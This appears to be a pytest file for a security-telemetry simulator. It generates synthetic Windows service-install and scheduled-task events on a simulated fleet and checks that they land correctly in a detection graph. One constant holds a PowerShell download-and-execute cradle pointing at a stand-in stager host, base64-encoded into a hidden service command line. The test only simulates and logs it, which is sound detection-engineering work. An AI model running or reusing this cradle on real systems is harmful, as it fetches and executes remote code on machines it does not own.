"""Service installs and scheduled tasks from the simulator, through the real ingest into a graph.

A small scenario installs a PsExec-style service and registers a task on every
host of a 24-host fleet (both collectors), with the runs that follow; the whole
output goes through :func:`ingest.pipeline.ingest_paths` into a journal and an
embedded store.  The graph must hold ``host INSTALLED process`` for each, on the
very process node the Sysmon 1 run of that command gives.
"""

from __future__ import annotations

import base64
from pathlib import Path

import pytest

from graphsiem.simulator import simulate
from graphsiem.simulator.scenario import ScenarioError, load_scenario, parse_scenario
from graphsiem.simulator.vocabulary import TASK_TRIGGERS
from graphsiem.simulator.winevents import TRIGGER_ELEMENTS
from graphsiem.store.embedded import EmbeddedStore
from ingest.journal import Journal
from ingest.parsers.task_definitions import parse_task_content
from ingest.pipeline import ingest_paths
from tests.graphsiem.simulator.conftest import computer_name, event_data, event_id, read_ndjson

STAGER = "IEX (New-Object Net.WebClient).DownloadString('http://cdn.test-stager.example/a.ps1')"
ENCODED = base64.b64encode(STAGER.encode("utf-16-le")).decode()
SERVICE_LINE = f"C:\\Windows\\system32\\cmd.exe /b /c start /b /min powershell -nop -w hidden -enc {ENCODED}"
TASK_LINE = '"C:\\Program Files (x86)\\Contoso\\Updater.exe" /daily'
SCENARIO = f"""
name: persistence_test
label: a service and a task on every host
kind: attack
hosts: {{group: any, fraction: 1.0}}
pivot: {{type: process}}
activities:
  - schedule: {{every: once, day: last, at: "10:00", spread_minutes: 5}}
    steps:
      - action: service_install
        installer: 'CORP\\svc-deploy'
        encoded_command: "{STAGER}"
        image_path: '%COMSPEC% /b /c start /b /min powershell -nop -w hidden -enc {{{{encoded}}}}'
        audit: true
        run: true
      - action: scheduled_task
        installer: system
        task_name: '\\Contoso\\Update'
        author: 'Contoso & Sons'
        command: '%ProgramFiles(x86)%\\Contoso\\Updater.exe'
        arguments: '/daily'
        triggers: [daily, boot]
        hidden: true
        run: true
      - action: scheduled_task
        installer: system
        task_name: '\\Contoso\\Update'
        command: '%ProgramFiles(x86)%\\Contoso\\Updater.exe'
        arguments: '/daily'
        updated: true
"""
HOSTS = 24


def _records(out: Path) -> list[tuple[str, dict]]:
    return [(path.name.split("-", 1)[0], record)
            for path in sorted((out / "endpoint").glob("*.ndjson")) for record in read_ndjson(path)]


@pytest.fixture(scope="module")
def run(tmp_path_factory):
    """``(out dir, endpoint records, store)`` of the scenario, simulated and ingested."""
    root = tmp_path_factory.mktemp("persistence")
    scenario = root / "persistence_test.yaml"
    scenario.write_text(SCENARIO, encoding="utf-8")
    out = root / "telemetry"
    simulate(out, hosts=HOSTS, days=1, seed=5, scenarios=[str(scenario)])
    store = EmbeddedStore(root / "graph")
    with Journal(root / "journal.sqlite") as journal:
        report = ingest_paths([out / "endpoint"], store=store, journal=journal, progress=False)
    assert (report.total.accepted, report.total.received) == (report.total.received, len(_records(out)))
    yield out, _records(out), store
    store.close()


def test_each_host_logs_7045_4697_4698_and_4702_in_both_collectors(run):
    _, records, _ = run
    seen: dict[int, set[str]] = {}
    collectors: dict[int, set[str]] = {}
    for collector, record in records:
        seen.setdefault(event_id(collector, record), set()).add(computer_name(collector, record))
        collectors.setdefault(event_id(collector, record), set()).add(collector)
    for number in (7045, 4697, 4698, 4702):
        assert len(seen[number]) == HOSTS, number
        assert collectors[number] == {"winlogbeat", "nxlog"}, number


def test_7045_says_what_the_service_runs_and_as_whom(run):
    _, records, _ = run
    for collector, record in records:
        if event_id(collector, record) == 7045:
            data = event_data(collector, record)
            assert data["ImagePath"].startswith("%COMSPEC% /b /c start /b /min powershell -nop -w hidden -enc ")
            assert data["AccountName"] == "LocalSystem"  # the service's account, not the installer
            assert (data["ServiceType"], data["StartType"]) == ("user mode service", "demand start")
            assert len(data["ServiceName"]) == 8 and data["ServiceName"].isalpha()
            channel = record["winlog"]["channel"] if collector == "winlogbeat" else record["Channel"]
            assert channel == "System"


def test_task_content_is_a_well_formed_definition_the_ingest_reads(run):
    _, records, _ = run
    definitions = [event_data(c, r)["TaskContent"] for c, r in records if event_id(c, r) == 4698]
    assert len(definitions) == HOSTS
    for text in definitions:
        task = parse_task_content(text)
        assert task.actions == [("%ProgramFiles(x86)%\\Contoso\\Updater.exe", "/daily")]
        assert (task.user, task.author, task.hidden) == ("S-1-5-18", "Contoso & Sons", True)
        assert task.triggers == ["CalendarTrigger", "BootTrigger"]
    updates = [event_data(c, r) for c, r in records if event_id(c, r) == 4702]
    assert all("TaskContentNew" in data and "TaskContent" not in data for data in updates)


def _process_key(store: EmbeddedStore, command_line: str) -> tuple[str, str]:
    matches = [e for e in store.iter_entities("process") if e.props.get("command_line") == command_line]
    assert len(matches) == 1, [e.props.get("command_line") for e in matches]
    return ("process", matches[0].key)


@pytest.mark.parametrize("command_line", [SERVICE_LINE, TASK_LINE], ids=["service", "task"])
def test_installed_and_run_are_one_process_node_on_every_host(run, command_line):
    _, _, store = run
    process = _process_key(store, command_line)
    installed = {r.src for r in store.iter_relations("INSTALLED") if r.dst == process}
    # the run's Sysmon 1: services.exe or the Schedule service SPAWNED it, the host RAN it
    ran = {r.src for r in store.iter_relations("RAN") if r.dst == process}
    assert len(installed) == HOSTS
    assert installed == ran


def test_installed_commands_run_as_local_system(run):
    _, _, store = run
    for command_line in (SERVICE_LINE, TASK_LINE):
        process = _process_key(store, command_line)
        users = {r.dst for r in store.iter_relations("RUN_AS") if r.src == process}
        assert users == {("user", "nt authority\\system")}, command_line


def test_the_service_name_and_task_name_are_props_of_the_process(run):
    _, _, store = run
    service = store.get_entity(*_process_key(store, SERVICE_LINE))
    task = store.get_entity(*_process_key(store, TASK_LINE))
    assert len(service.props["service"]) == 8
    assert task.props["task"] == "\\Contoso\\Update"


def test_one_seed_gives_the_same_installs_and_another_seed_other_names(run, tmp_path):
    out, records, _ = run
    again = tmp_path / "again"
    other = tmp_path / "other"
    simulate(again, hosts=HOSTS, days=1, seed=5, scenarios=[str(out.parent / "persistence_test.yaml")])
    simulate(other, hosts=HOSTS, days=1, seed=6, scenarios=[str(out.parent / "persistence_test.yaml")])
    assert _records(again) == records
    names = {event_data(c, r)["ServiceName"] for c, r in records if event_id(c, r) == 7045}
    other_names = {event_data(c, r)["ServiceName"] for c, r in _records(other) if event_id(c, r) == 7045}
    assert len(names) == HOSTS  # a random name per install, as PsExec-style tools make it
    assert names.isdisjoint(other_names)


def test_every_trigger_kind_has_an_element():
    assert set(TRIGGER_ELEMENTS) == TASK_TRIGGERS


def test_an_unknown_trigger_is_refused_with_its_place():
    document = {"name": "t", "label": "t", "kind": "benign", "hosts": {"group": "any"},
                "activities": [{"schedule": {"every": "once"}, "steps": [
                    {"action": "scheduled_task", "task_name": "\\x", "command": "a.exe", "triggers": ["hourly"]}]}]}
    with pytest.raises(ScenarioError, match=r"activities\[0\]\.steps\[0\]\.triggers: unknown trigger 'hourly'"):
        parse_scenario(document)


def test_lateral_movement_installs_a_psexec_style_service_and_the_updater_a_daily_task():
    lateral = load_scenario("lateral_movement")
    actions = {step.action: step.params for activity in lateral.activities for step in activity.steps}
    assert actions["service_install"]["image_path"].startswith("%COMSPEC% /b /c start /b /min powershell")
    updater = load_scenario("driver_updater")
    task = next(step for activity in updater.activities for step in activity.steps
                if step.action == "scheduled_task")
    schedule = next(a.schedule for a in updater.activities if task in a.steps)
    assert (schedule.every, schedule.days) == ("daily", "all")


def test_default_fleet_truth_lists_the_service_and_the_task(truth):
    by_name = {scenario["name"]: scenario for scenario in truth["scenarios"]}
    lateral = {i["value"] for i in by_name["lateral_movement"]["indicators"] if i["type"] == "process"}
    updater = {i["value"] for i in by_name["driver_updater"]["indicators"] if i["type"] == "process"}
    assert any(value.startswith("C:\\Windows\\system32\\cmd.exe /b /c start /b /min powershell -nop -w hidden -enc ")
               for value in lateral)
    assert '"C:\\Program Files (x86)\\DriverHub\\DriverHubUpdater.exe" /silent /scheduled' in updater
